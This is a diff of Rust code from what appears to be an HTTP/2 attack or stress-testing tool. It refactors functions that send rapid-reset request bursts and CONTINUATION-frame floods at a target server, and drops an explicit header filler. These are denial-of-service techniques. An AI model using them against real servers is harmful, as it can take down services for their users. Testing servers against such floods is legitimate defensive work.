@@ -11,7 +11,7 @@ use tokio::task::JoinSet;
 use tokio::time::{Duration, Instant, sleep, timeout_at};
 
 use super::Target;
-use super::frames::{self, Body};
+use super::frames;
 use super::socket::{Side, is_open};
 
 /// Requests that are paid for and reset at once.
@@ -24,10 +24,8 @@ pub(super) async fn resets(target: &Arc<Target>, count: usize, until: Instant) -
             .saturating_add(1);
         let ids = (first..).step_by(2).take(RESETS as usize);
         ids.flat_map(|id| {
-            let fields = frames::get("/item", Some(&authorization));
-            let mut bytes = frames::headers(id, Body::None, &fields);
-            bytes.extend(frames::reset(id));
-            bytes
+            let request = frames::get(id, "/item", Some(&authorization));
+            [request, frames::reset(id)].concat()
         })
         .collect()
     })
@@ -40,12 +38,9 @@ pub(super) async fn continuation(
     count: usize,
     until: Instant,
 ) -> Result<String> {
-    let filler = "x".repeat(FILLER);
-    flood(target, count, until, move |batch| match batch {
-        0 => frames::headers_begun(1, &frames::get("/item", None)),
-        _ => (0..CONTINUATIONS)
-            .flat_map(|_| frames::continuation(1, &[("x-filler", &filler)]))
-            .collect(),
+    flood(target, count, until, |batch| match batch {
+        0 => frames::head_begun(1),
+        _ => frames::continuation(1).repeat(CONTINUATIONS),
     })
     .await
 }
@@ -107,7 +102,5 @@ async fn pour(target: &Target, batch: &(dyn Fn(u32) -> Vec<u8> + Send + Sync)) -
 const RESETS: u32 = 20;
 const CONTINUATIONS: usize = 8;
 const CONTROLS: usize = 200;
-/// Below the 16 KiB that a frame may have.
-const FILLER: usize = 8 * 1024;
 const PAUSE: Duration = Duration::from_millis(10);
 const BEFORE_NEXT: Duration = Duration::from_millis(50);
